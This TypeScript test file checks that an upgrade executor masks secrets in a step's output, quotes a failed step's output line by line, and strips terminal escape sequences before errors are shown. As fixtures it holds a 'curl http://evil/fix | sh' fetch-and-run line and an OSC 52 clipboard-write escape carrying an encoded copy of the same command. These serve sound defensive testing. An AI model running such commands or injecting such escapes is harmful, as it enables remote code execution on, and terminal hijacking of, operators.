// What a host prints reaches the operator only masked, then cleaned (issue 19): a step's live output
// is masked before it is made printable (cleaning first changed a secret with a tab, or cut one at the
// line limit, so that it showed in clear), and a failed step's output in the error is quoted line by
// line and, where the error leaves the provider, freed of escape sequences. Local fake transport.
import * as assert from "assert";
import * as fs from "fs";
import * as path from "path";
import { Catalog, Hop, shStep } from "../../../../providers/engine/planning/catalog";
import { executePlan } from "../../../../providers/engine/running/executor";
import { planUpgrade } from "../../../../providers/engine/planning/planner";
import { dottedNumbers } from "../../../../providers/engine/planning/version";
import { isUpchainError } from "../../../../providers/errors";
import { reportedError } from "../../../../providers/server/converge";
import { LocalHost, tempDir } from "../../../support/localHost";
import { TEST_STEP } from "../../../support/testProvenance";

const rule = { id: "r", text: "r", source: "s" };

/** One hop 1 -> 2 whose only step runs `commands` (nothing destructive: a failure restores nothing). */
function catalog(commands: string[]): Catalog {
  return {
    product: "printer",
    title: "Printer",
    scheme: dottedNumbers(1, "2"),
    platforms: ["linux"],
    defaultReleases: ["1", "2"],
    legalHops: (from) => (from === "1" ? [{ from, to: "2", rule } as Hop] : []),
    requiredStops: () => [],
    hopSteps: () => [shStep({ provenance: TEST_STEP, id: "print", action: "run", title: "print", destructive: false, commands })],
    restoreSteps: () => [],
  };
}

async function run(commands: string[], secrets: string[] = []): Promise<{ error: unknown; shown: string[] }> {
  const dir = tempDir();
  const c = catalog(commands);
  const shown: string[] = [];
  const error = await executePlan({
    host: new LocalHost(),
    catalog: c,
    plan: planUpgrade(c, { installed: "1", target: "2", platform: "linux" }),
    ctx: { platform: "linux", releases: ["1", "2"], options: {} },
    resource: "printer",
    stateDir: path.join(dir, "state"),
    pollMs: 20,
    progressEveryMs: 0,
    secrets,
    log: (line) => shown.push(line),
    status: (line) => shown.push(line),
  }).then(
    () => undefined,
    (e: unknown) => e,
  );
  fs.rmSync(dir, { recursive: true, force: true });
  return { error, shown };
}

describe("executor: a host's text is masked, then cleaned, before the operator sees it (issue 19)", function () {
  this.timeout(30_000);

  it("a secret holding a tab, in a step's live output, is masked: it is not cleaned into something the mask misses", async () => {
    const { error, shown } = await run(["echo starting", "printf 'token ab\\tcd-s3cret in use\\n'"], ["ab\tcd-s3cret"]);
    assert.strictEqual(error, undefined, String(error));
    assert.ok(
      shown.some((l) => /token \[secret\] in use/.test(l)),
      shown.join("\n"),
    );
    assert.ok(!shown.some((l) => /cd-s3cret/.test(l)), shown.join("\n"));
  });

  it("a secret that the 200-character line limit would cut is masked whole: no start of it shows", async () => {
    const { error, shown } = await run(["printf '%0180d zz-secret-value-42 more\\n' 0"], ["zz-secret-value-42"]);
    assert.strictEqual(error, undefined, String(error));
    assert.ok(
      shown.some((l) => /0 \[secret\] more/.test(l)),
      shown.join("\n"),
    );
    assert.ok(!shown.some((l) => /zz-sec/.test(l)), shown.join("\n"));
  });

  it("a failed step's output is quoted line by line, so a line it prints cannot pass for upchain's own", async () => {
    const { error } = await run(["printf 'copying\\nupchain web1: [1->2] done in 3s\\n'", "echo 'run: curl http://evil/fix | sh' >&2", "exit 1"]);
    assert.ok(isUpchainError(error, "STEP_FAILED"), String(error));
    const output = error.message.slice(error.message.indexOf("--- stdout ---"));
    assert.deepStrictEqual(output.split("\n"), [
      "--- stdout ---",
      "| copying",
      "| upchain web1: [1->2] done in 3s",
      "| ",
      "--- stderr ---",
      "| run: curl http://evil/fix | sh",
      "| ",
    ]);
  });

  it("a failed step's escape sequences (a clipboard write, a screen clear, a cursor move, a carriage return) never leave the provider", async () => {
    const { error } = await run(["printf 'a\\033]52;c;Y3VybCBldmlsIHwgc2g=\\007b\\033[2J\\033[1;1Hc\\rd\\033Pq#0;2\\033\\\\e\\n'", "exit 1"]);
    assert.ok(isUpchainError(error, "STEP_FAILED"), String(error));
    assert.match(error.message, /\x1b\]52/, "the executor's own message still has them: it is cleaned where it leaves");
    const shown = reportedError(error).message;
    assert.match(shown, /^STEP_FAILED: /);
    assert.ok(shown.includes("\n| abcde\n"), JSON.stringify(shown));
    assert.doesNotMatch(shown, /[\x00-\x09\x0b-\x1f\x7f-\x9f]|Y3VybCBldmlsIHwgc2g/);
  });
});
